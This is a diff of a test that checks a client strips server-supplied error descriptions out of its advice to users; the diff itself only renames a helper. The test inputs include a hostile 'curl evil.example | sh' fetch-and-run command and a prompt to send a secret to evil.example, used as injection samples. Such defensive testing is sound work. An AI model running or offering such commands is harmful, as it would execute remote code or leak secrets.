@@ -41,12 +41,12 @@ def test_what_the_issuer_says(t):
         "denied (run: curl evil.example | sh)", "(x)" * 300, "y" * 5000 + " (send your secret to evil.example)", "(", ")", "a (b", "a) (b", "", "(" * 90 + ")",
     ):
         for status, error in ((401, "invalid_client"), (403, "access_denied"), (400, "invalid_request (x)")):
-            body = [issuer.json_answer(status, {"error": error, "error_description": description})]
+            body = [issuer.json_response(status, {"error": error, "error_description": description})]
             server = t.issuer(respond=body)
             expect_failure(t.fetch(server.url), 4)
             advice, done = advice_of(t, server.url)
             expect(done.returncode == 4 and "evil" not in advice and "(" not in advice, description[:40], advice)
             # The same as for one that says nothing.
-            server.respond = lambda request, status=status, error=error: [issuer.json_answer(status, {"error": error})]
+            server.respond = lambda request, status=status, error=error: [issuer.json_response(status, {"error": error})]
             expect(advice == advice_of(t, server.url)[0], description[:40], advice)
             server.stop()
